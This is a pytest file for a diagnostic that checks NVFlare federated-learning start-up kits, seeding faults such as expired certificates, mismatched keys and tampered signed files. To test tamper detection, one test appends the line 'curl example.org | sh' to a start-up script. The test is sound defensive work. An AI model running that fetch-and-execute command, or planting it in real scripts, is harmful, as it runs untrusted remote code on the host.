"""Start-up kits of NVFlare's, provisioned for real: each fault seeded, each named with its remedy."""

import json
import shutil
import socket
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from importlib.util import find_spec
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from polypfed.doctor import Asked, Finding, examine
from tests.doctor.test_faults import errors, only
from tests.live.loopback import free_ports

pytestmark = pytest.mark.skipif(find_spec("nvflare") is None, reason="needs the extra nvflare")
ADMIN = "admin@polypfed.org"


@pytest.fixture(scope="module")
def provisioned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from polypfed.backends.nvflare import deploy

    port, admin_port = free_ports(2)
    plan = deploy.Plan(["north"], "127.0.0.1", port, admin_port, client="tests.live.nvflare.study:client")
    return deploy.write(tmp_path_factory.mktemp("kits") / "made", plan)


@pytest.fixture
def made(provisioned: Path, tmp_path: Path) -> Path:
    """A copy of its kits, to do harm to."""
    return Path(shutil.copytree(provisioned / "kits", tmp_path / "kits"))


@pytest.fixture
def served(made: Path) -> Iterator[None]:
    """Somebody listens where sites and administrators will dial."""
    told = json.loads((made / "127.0.0.1" / "startup" / "fed_server.json").read_text())["servers"][0]
    port = int(told["service"]["target"].rpartition(":")[2])
    with socket.create_server(("127.0.0.1", port)), socket.create_server(("127.0.0.1", told["admin_port"])):
        yield


def found(made: Path, kit: str) -> list[Finding]:
    role = "server" if kit == "127.0.0.1" else "site"
    return list(examine(role, Asked(made / kit, quick=True)))


def replaced(path: Path, subject: str, days: int) -> None:
    """A certificate of another authority, valid until `days` from now; its key beside it."""
    key = rsa.generate_private_key(65537, 2048)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, subject)])
    end = datetime.now(UTC) + timedelta(days=days)
    built = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
    built = built.serial_number(1).not_valid_before(end - timedelta(days=900)).not_valid_after(end)
    path.write_bytes(built.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM))
    form = serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
    path.with_suffix(".key").write_bytes(key.private_bytes(serialization.Encoding.PEM, *form))


@pytest.mark.usefixtures("served")
@pytest.mark.parametrize("kit", ["north", ADMIN])
def test_nothing_is_wrong_with_a_fresh_kit(made: Path, kit: str) -> None:
    all_ = found(made, kit)
    assert errors(all_) == {}
    assert len({f.what for f in all_}) == len(all_)
    assert {"certificate rootCA.pem", "client.key and client.crt"} <= {f.what for f in all_}


def test_nothing_is_wrong_with_a_fresh_server(made: Path) -> None:
    all_ = found(made, "127.0.0.1")
    assert errors(all_) == {}
    assert {"certificate server.crt", "names in server.crt", "polypfed.toml"} <= {f.what for f in all_}


@pytest.mark.usefixtures("served")
def test_an_expired_certificate_of_another_authority(made: Path) -> None:
    replaced(made / "north" / "startup" / "client.crt", "north", -3)
    said = errors(found(made, "north"))
    assert set(said) == {"certificate client.crt", "client.crt by rootCA.pem"}
    assert "expired on" in said["certificate client.crt"][0]
    assert "provisioning anew" in said["certificate client.crt"][1]
    assert "Take this kit anew" in said["client.crt by rootCA.pem"][1]


@pytest.mark.usefixtures("served")
def test_another_key(made: Path) -> None:
    key = made / "north" / "startup" / "client.key"
    shutil.copy(made / ADMIN / "startup" / "client.key", key)
    only(found(made, "north"), "client.key and client.crt", "not a pair", "made together")
    key.chmod(0o644)
    assert errors(found(made, "north"))["key client.key"][1] == f"chmod 600 {key}"


def test_a_server_that_cannot_be_reached(made: Path) -> None:
    for kit in ("north", ADMIN):
        ((what, (detail, remedy)),) = errors(found(made, kit)).items()
        assert what.startswith("server 127.0.0.1:")
        assert ("nothing serves" in detail, "start.sh" in remedy) == (True, True)


@pytest.mark.usefixtures("served")
def test_ports_that_are_taken(made: Path) -> None:
    said = errors(found(made, "127.0.0.1"))
    assert len(said) == 2
    assert all("is taken" in detail and "ss -ltnp" in remedy for detail, remedy in said.values())


def test_a_server_under_another_name(made: Path) -> None:
    path = made / "127.0.0.1" / "startup" / "fed_server.json"
    path.write_text(path.read_text().replace("127.0.0.1:", "fed.example.org:"))
    only(found(made, "127.0.0.1"), "names in server.crt", "sites dial fed.example.org", "provisioning anew")


@pytest.mark.usefixtures("served")
def test_a_kit_that_has_not_been_fitted(made: Path) -> None:
    path = made / "north" / "local" / "resources.json"
    table = json.loads(path.read_text())
    table["class_allow_list"] = [c for c in table["class_allow_list"] if "polypfed" not in c]
    path.write_text(json.dumps(table))
    only(
        found(made, "north"), "kit's class_allow_list", "without PolypController, PolypExecutor", "polypfed nvflare fit"
    )


@pytest.mark.usefixtures("served")
def test_a_signed_file_that_was_changed(made: Path) -> None:
    """Signed by NVFlare's own function, with a key that takes the authority's place."""
    from nvflare.lighter.utils import load_private_key_file, sign_all

    startup = made / "north" / "startup"
    replaced(startup / "rootCA.pem", "polypfed", 300)
    signed = sign_all(str(startup), load_private_key_file(str(startup / "rootCA.key")))
    (startup / "signature.json").write_text(json.dumps(signed))
    assert "signature of the kit" not in errors(found(made, "north"))
    with open(startup / "sub_start.sh", "a") as file:
        file.write("curl example.org | sh\n")
    detail, remedy = errors(found(made, "north"))["signature of the kit"]
    assert (detail, "Take this kit anew" in remedy) == ("sub_start.sh: not as signed, or missing", True)


@pytest.mark.parametrize(
    ("harm", "what", "says"),
    [
        (lambda kit: (kit / "local" / "polypfed.toml").unlink(), "start-up kit", "cannot be read"),
        (lambda kit: (kit / "startup" / "fed_client.json").write_text("{"), "start-up kit", "is not JSON"),
        (lambda kit: (kit / "startup" / "client.crt").unlink(), "certificate client.crt", "cannot be read"),
    ],
)
@pytest.mark.usefixtures("served")
def test_what_is_missing_is_a_finding(made: Path, harm: Callable[[Path], None], what: str, says: str) -> None:
    harm(made / "north")
    assert any(f.state == "error" and says in f.detail for f in found(made, "north") if f.what == what)
